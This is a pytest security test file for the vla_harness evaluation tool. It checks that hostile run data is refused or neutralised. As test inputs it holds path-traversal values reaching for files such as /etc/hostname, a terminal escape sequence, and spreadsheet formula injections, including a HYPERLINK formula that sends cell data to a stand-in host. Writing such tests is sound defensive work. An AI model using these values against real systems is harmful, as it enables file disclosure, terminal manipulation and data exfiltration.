"""Runs that somebody else has made to do harm: by paths, by terminal escapes, by formulas for a spreadsheet."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from tests.vla_harness.comparison.made_runs import make_run
from tests.vla_harness.runs import change_episodes
from vla_harness.__main__ import main
from vla_harness.eval.compare import main as compare
from vla_harness.results import read_run, write_reports
from vla_harness.results.csv_text import csv_text

ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202ebowl"


@pytest.mark.parametrize("video", ["../../profile", "/etc/hostname", "videos/../../../profile", "link/profile", "a\nb"])
def test_a_video_that_leaves_its_run_is_neither_copied_nor_linked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], video: str
) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "profile").write_text("theirs")
    (tmp_path / "home" / "profile").write_text("mine")
    bad, good = (make_run(tmp_path / "runs" / name, ["11"], seed=7) for name in ("bad", "good"))
    change_episodes(bad, lambda one: replace(one, video=video))
    (bad / "link").symlink_to(tmp_path)
    out = tmp_path / "home" / "runs" / "merged"
    for arguments in (
        ["merge", str(bad), str(good), "--out", str(out)],
        ["show", str(bad)],
        ["export", str(bad), "--out", str(tmp_path / "x.csv")],
    ):
        assert main(arguments) == 2
        said = capsys.readouterr().err
        assert said.startswith("error: ") and said.count("\n") == 1 and "video of spatial/0/0/7" in said
    assert (tmp_path / "home" / "profile").read_text() == "mine" and not out.exists()


def test_nothing_that_a_run_says_steers_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = make_run(tmp_path / "run", ["1e0"], policy=f"policy{ESCAPE}", checkpoint=ESCAPE)
    change_episodes(
        path, lambda one: replace(one, task_name=ESCAPE, instruction=ESCAPE, error=ESCAPE if one.error else "")
    )
    write_reports(path)
    out = tmp_path / "table"
    assert main(["show", str(path), "--strips", "0"]) == 0
    assert compare([str(path), "--out", f"{out}.md"]) == 0
    assert compare([str(path), "--out", f"{out}.csv"]) == 0
    assert compare([str(path), "--target-halfwidth", "0.1"]) == 0
    assert main(["export", str(path), "--out", f"{out}-export.csv"]) == 0
    captured = capsys.readouterr()
    written = [captured.out, captured.err, (path / "report.md").read_text()]
    written += [Path(f"{out}{name}").read_text() for name in (".md", ".csv", "-export.csv")]
    for text in written:
        assert not set(text) & set("\x1b\x07\u202e")
    assert "\\x1b]0;owned" in captured.out


def test_text_that_a_spreadsheet_would_run_is_defused_and_numbers_are_left(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x/"&A1)'
    path = make_run(tmp_path / "run", ["1e"], policy="@sum")
    other = make_run(tmp_path / "other", ["00"], policy="+1")
    change_episodes(path, lambda one: replace(one, instruction=formula, error="-2+3" if one.error else ""))
    assert main(["export", str(path), "--out", str(tmp_path / "run.csv")]) == 0
    assert compare([str(path), str(other), "--out", str(tmp_path / "table.csv")]) == 0
    exported, compared = (list(csv.DictReader((tmp_path / f"{name}.csv").open())) for name in ("run", "table"))
    assert {line["instruction"] for line in exported} == {f"'{formula}"}
    assert {line["policy"] for line in exported} == {"'@sum"} and exported[1]["error"] == "'-2+3"
    assert {line["policy"] for line in compared} == {"'@sum", "'+1"}
    (difference,) = [line for line in compared if line["kind"] == "difference"]
    assert float(difference["low"]) < 0 < float(difference["value"])
    for line in (*exported, *compared):
        for name, value in line.items():
            assert not value.startswith(("=", "+", "-", "@")) or float(value) < 0, name


def test_a_csv_cell_keeps_numbers_and_marks_text() -> None:
    row = {"a": -1.5, "b": " =1+1", "c": "＝1", "d": "plain", "e": None, "f": "-0.5", "g": "two\nlines"}
    assert csv_text([*row, "h"], [row]).splitlines()[1] == "-1.5,' =1+1,'＝1,plain,,'-0.5,two\\nlines,"


def test_names_of_300_characters_are_refused_in_one_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    runs = [make_run(tmp_path / name, ["-"] * task + ["11"], tasks=[task]) for task, name in enumerate(("one", "two"))]
    for arguments in (
        ["merge", *map(str, runs), "--out", str(tmp_path / ("m" * 300))],
        ["export", str(runs[0]), "--out", str(tmp_path / ("e" * 300 + ".csv"))],
        ["export", str(runs[0]), "--out", str(tmp_path / ("e" * 300 + ".parquet"))],
        ["export", str(runs[0]), "--out", str(tmp_path / ("e" * 300))],
        ["show", str(tmp_path / ("s" * 300))],
    ):
        assert main(arguments) == 2
        said = capsys.readouterr().err
        assert said.startswith("error: ") and said.count("\n") == 1
    assert compare([str(runs[0]), "--out", str(tmp_path / ("c" * 300 + ".html"))]) == 2
    assert read_run(runs[0]).results
